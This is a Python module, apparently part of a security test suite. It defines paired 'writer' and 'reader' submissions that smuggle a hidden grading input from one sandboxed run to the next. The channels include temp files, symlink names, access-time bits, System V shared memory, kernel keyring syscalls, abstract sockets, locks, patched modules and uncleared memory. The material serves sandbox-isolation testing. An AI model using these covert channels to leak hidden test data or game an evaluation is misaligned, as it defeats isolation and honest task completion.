"""Speaking from one submission to another: the first sees a hidden input, the second reveals it in a public check.

Each pair has a writer, which leaves what it was asked in some place, and a reader, which looks there.
"""

from security.attacks.attack import Attack, answers, spy
from security.attacks.corpus.disclosure import HIDDEN_CALL


def pair(name: str, tries: str, shared: str, write: str, read: str) -> list[Attack]:
    """Return a writer, which runs `write` with the hidden `value`, and a reader, which evaluates `read`."""
    body = "".join(f"        {line}\n" for line in write.strip("\n").splitlines())
    functions = "".join(
        f"def {each}(value):\n    if hidden(value):\n{body}    return value\n\n\n" for each in ("double", "halve")
    )
    return [
        answers(f"leaves {name}", tries, f"{shared}\n{HIDDEN_CALL}\n{functions}"),
        spy(f"finds {name}", tries, f"{shared}\n\ndef loot():\n    return {read}"),
    ]


FILES = """
import glob
import os
PLACES = [os.path.join(folder, TOKEN + "_said") for folder in ("/tmp", "/dev/shm", "/var/tmp", TMP, WORK, "/dev")]
def each(action):
    found = []
    for place in PLACES:
        try:
            found.append(action(place))
        except OSError:
            pass
    return found
"""

# What is read gets a new time of access, if the last one is older than a day: a bit for each file or link.
ACCESS_TIMES = """
import os
import time

def age(path):
    return time.time() - os.lstat(path).st_atime

def usable(paths):
    found = []
    for path in paths:
        try:
            if not 60 < age(path) < 90_000:
                found.append(path)
        except OSError:
            pass
    return found

def say(number, paths, touch):
    for bit, path in enumerate(paths):
        if number >> bit & 1:
            touch(path)

def heard(paths):
    return sum((age(path) < 60) << bit for bit, path in enumerate(paths))
"""

LIBRARY = """
def library():
    root, names = os.path.dirname(os.__file__), []
    for part in ("", "/email", "/json", "/xml/dom", "/tkinter", "/unittest", "/wsgiref", "/distutils", "/idlelib"):
        try:
            names += [f"{root}{part}/{name}" for name in sorted(os.listdir(root + part)) if name.endswith(".py")]
        except OSError:
            pass
    guesses = "this antigravity tabnanny pty tty sndhdr nntplib mailcap chunk aifc imghdr crypt uu xdrlib sunau smtpd"
    return usable(names or [f"{root}/{name}.py" for name in guesses.split()])[-60:]
"""

LINKS = """
def links():
    names = "awk cc c++ which pager editor vi nawk python3 perl sh lzcat xzcat c99 c89 cpp gcc g++ nc w write ld as"
    return usable([f"/usr/bin/{name}" for name in names.split()])
"""

SYSTEM_V = """
import ctypes
LIBC = ctypes.CDLL(None)
LIBC.shmat.restype = ctypes.c_void_p
KEY = 0x0FA4A77C
"""

ATTACKS = [
    *pair(
        "a file",
        "in every folder where files are usual",
        FILES,
        "each(lambda place: open(place, 'a').write(str(value)))",
        "each(lambda place: open(place).read())",
    ),
    *pair(
        "a name",
        "the text is the name of a folder, a link or a pipe",
        FILES,
        "each(lambda place: os.mkdir(f'{base}{number(value)}'))\n"
        "each(lambda place: os.symlink(str(value), f'{base}l'))",
        "glob.glob(f'/tmp/{TOKEN}*') + glob.glob(f'/dev/shm/{TOKEN}*') + each(lambda at: os.readlink(at + 'l'))",
    ),
    *pair(
        "times of access",
        "reads one file of the standard library for each bit that is 1",
        ACCESS_TIMES + LIBRARY,
        "say(number(value), library()[20 * (value is not None and not hasattr(value, 'size')):][:20],"
        " lambda path: open(path, 'rb').read(1))",
        "heard(library()[:20]), heard(library()[20:40])",
    ),
    *pair(
        "times of access of links",
        "follows one symbolic link of the system for each bit that is 1",
        ACCESS_TIMES + LINKS,
        "say(number(value) if hasattr(value, 'size') else 0, links(), os.readlink)",
        "heard(links())",
    ),
    *pair(
        "shared memory",
        "System V memory, semaphores and messages",
        SYSTEM_V,
        "place = LIBC.shmat(LIBC.shmget(KEY, 4096, 0o1666), 0, 0)\n"
        "place in (None, 2**64 - 1) or ctypes.memmove(place, str(value).encode(), 20)\n"
        "LIBC.semget(KEY, 1, 0o1666); LIBC.msgget(KEY, 0o1666)",
        "(lambda place: place not in (None, 2**64 - 1) and ctypes.string_at(place))"
        "(LIBC.shmat(LIBC.shmget(KEY, 0, 0), 0, 0))",
    ),
    *pair(
        "a key",
        "in the kernel's keyrings",
        "import ctypes\nLIBC = ctypes.CDLL(None)",
        "LIBC.syscall(248, b'user', TOKEN.encode(), str(value).encode(), 20, -4)",
        "LIBC.syscall(249, b'user', TOKEN.encode(), 0, -4) > 0 and ESCAPED",
    ),
    *pair(
        "a socket",
        "an abstract name that another process can see",
        "import socket",
        "try:\n    socket.socket(socket.AF_UNIX).bind(chr(0) + TOKEN + str(value))\nexcept OSError:\n    pass",
        "open('/proc/net/unix').read()",
    ),
    *pair(
        "a lock",
        "on a descriptor that both have",
        "import fcntl\nimport os\nFILE = 0",
        "try:\n    fcntl.flock(FILE, fcntl.LOCK_EX)\n    fcntl.lockf(FILE, fcntl.LOCK_SH)\nexcept OSError:\n    pass",
        "fcntl.fcntl(FILE, fcntl.F_GETLK, bytes(100))",
    ),
    *pair(
        "a patched library",
        "NumPy, builtins, the module cache and the environment",
        "import builtins\nimport os\nimport sys\nimport numpy as np",
        "np.said = builtins.said = os.environ['said'] = sys.said = str(value)\n"
        "np.zeros.__globals__['said'] = 1 if hasattr(np.zeros, '__globals__') else 0",
        "[vars(place).get('said') for place in (np, builtins, sys)] + [os.environ.get('said')]",
    ),
    *pair(
        "traces in memory",
        "fills memory with what it was asked, for the next process to find in pages that were not cleared",
        "import numpy as np",
        "np.full(2_000_000, number(value), np.int64)\nstr(value) * 100_000",
        "[mark for mark in (473012, 683524, 529136, 871946) if (np.empty(20_000_000, np.int64) == mark).any()]",
    ),
]
